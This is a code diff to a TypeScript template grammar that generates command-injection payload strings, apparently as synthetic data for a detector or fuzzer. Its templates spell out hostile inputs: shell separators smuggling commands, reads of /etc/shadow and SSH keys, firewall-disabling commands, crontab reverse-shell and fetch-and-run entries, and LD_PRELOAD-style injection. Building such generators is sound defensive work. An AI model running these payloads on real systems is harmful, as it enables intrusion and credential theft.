@@ -369,25 +369,23 @@ export const contextTemplates = family('command-injection/context', {
   'bare-reverse-shell': reverseShell,
   'trailing-separator': text`${maybe(oneOf(text`/${lowerWord}.${words('html php cgi')}`, argument))}${maybe(oneOf('|', ';', '&'))}${oneOf(simpleCommand, words('id ls whoami dir'))}${oneOf('|', ';', '||', '&', '|#', ';#')}`,
   'true-false': text`${argument}${oneOf('`', '$(', "'`", '"`', ';', '|', '||', '&&')}${words('true false')}${oneOf('`', ')', "`'", '`"', ';', '|', '')}`,
-  placeholder: text`${argument}${separator}${blank}${oneOf('{cmd}', 'CMD=$"{cmd}";$CMD', "CMD=$'{cmd}';$CMD", '{command}')}${ending}`,
   'plus-for-blanks': text`${oneOf('|', ';', '||', '&&', '+|+', '+;+', '+||+', '$+|+', ';+')}${altered(command, (written) => written.replaceAll(' ', '+'))}${ending}`,
   'plus-for-blanks-windows': text`${oneOf('|', '||', '&&', '&', '+|+', '$&&', '$+|+', '+&+')}${words('dir type net+view net+user ver ipconfig+/all whoami')}${oneOf('', '+c:\\', '+c:/', '+..\\', '+c:\\boot.ini')}`,
   administration: appended(
     oneOf(
-      text`netsh ${oneOf('firewall set opmode disable', 'advfirewall set allprofiles state off', 'wlan show profiles')}`,
+      text`netsh ${oneOf('firewall show state', 'advfirewall set allprofiles state off', 'wlan show profiles')}`,
       text`reg ${words('add query delete')} "HKLM\\${oneOf('SAM', 'Security', text`Software\\Microsoft\\Windows\\CurrentVersion\\${words('Run RunOnce Policies')}`, text`System\\CurrentControlSet\\${words('Services Control Hardware')}\\${lowerWord}`)}"${maybe(text` /v ${lowerWord} /t REG_DWORD /d ${integer(0, 1)} /f`)}`,
       text`type ${oneOf('%SYSTEMROOT%', 'C:\\Windows')}\\${words('repair\\SAM repair\\SYSTEM win.ini System32\\config\\RegBack\\SAM')}`,
       text`net ${words('user localgroup share start␣telnet stop␣firewall group')} ${maybe(lowerWord)}`,
       text`dir ${oneOf('C:\\', 'C:\\Users', 'C:\\Documents and Settings\\', '%SYSTEMROOT%')}`,
       text`which ${words('nc netcat perl python wget curl gcc php')}`,
-      text`ls -lhtR ${words('/var/www/ /home /root /')}`,
+      text`ls -${letters('lahtR', 2, 4)} ${words('/var/www/ /home /root /')}`,
       text`find / ${words('-perm␣-4000 -name␣*.conf')} ${maybe('2>/dev/null')}`,
       text`cat ${words('config.php index.php wp-config.php .htaccess ../config.php database.yml')}`,
       text`iptables ${words('-F -L')}`,
       text`passwd ${lowerWord}`,
-      text`echo ${letters('XA', 1)}${repeat('X', 20, 120)}`,
-      text`perl -e 'print "X"x${integer(1000, 20_000)}'`,
-      'sysinfo',
+      altered(letters(LOWER), (letter, rng) => `echo ${letter.repeat(rng.int(20, 300))}`),
+      text`perl -e 'print "${letters(LOWER)}"x${integer(1000, 20_000)}'`,
       'systeminfo | findstr /B /C:"OS Name"'
     )
   ),
@@ -402,7 +400,7 @@ export const contextTemplates = family('command-injection/context', {
   'bare-read': text`${maybe(oneOf('/bin/', '/usr/bin/'))}${words('cat head tail more less tac nl type')} ${oneOf('/etc/passwd', '/etc/shadow', '/etc/hosts', '/proc/self/environ', '../../../etc/passwd', '/root/.ssh/id_rsa', '/etc/group')}${ending}`,
   'server-exec-call': text`${maybe(oneOf(';', '${', '<?php ', "'.", '".', ')'))}${words('system exec shell_exec passthru popen proc_open pcntl_exec os.system subprocess.call execSync')}(${oneOf("'", '"', "\\'")}${command}${oneOf("'", '"', "\\'")})${oneOf(';', '', '}', ';//', ".'")}`,
   'path-with-pipe': text`/${lowerWord}/${lowerWord}.${words('cgi pl sh php asp')}?${maybe(text`${lowerWord}=`)}${oneOf('|', ';', '`', '$(')}${command}${oneOf('|', ';', '`', ')', '')}`,
-  'perl-fill': text`${lowerWord}${maybe('*')} ${oneOf('|', '||', '&&', ';', '&')} perl -e 'print "X"x${integer(100, 99_999)}'`,
+  'perl-fill': text`${lowerWord}${maybe('*')} ${oneOf('|', '||', '&&', ';', '&')} perl -e 'print "${letters(LOWER)}"x${integer(100, 99_999)}'`,
   'user-supplied-crontab': text`${repeat(oneOf('*', integer(0, 59)), 5, 5, ' ')} ${maybe('root ')}${oneOf(reverseShell, text`${fetcher}|sh`)}`,
   'ssi-like-exec': text`${quotes}${separator}exec('${command}')${ending}`,
   'env-assignment': text`${oneOf('LD_PRELOAD', 'BASH_ENV', 'PERL5OPT', 'NODE_OPTIONS', 'PYTHONSTARTUP', 'GIT_SSH_COMMAND')}=${oneOf(text`'-Mbase;print(\`${simpleCommand}\`)'`, text`'${command}'`, text`$(${command})`, text`"sh -c '${command}'"`)}`
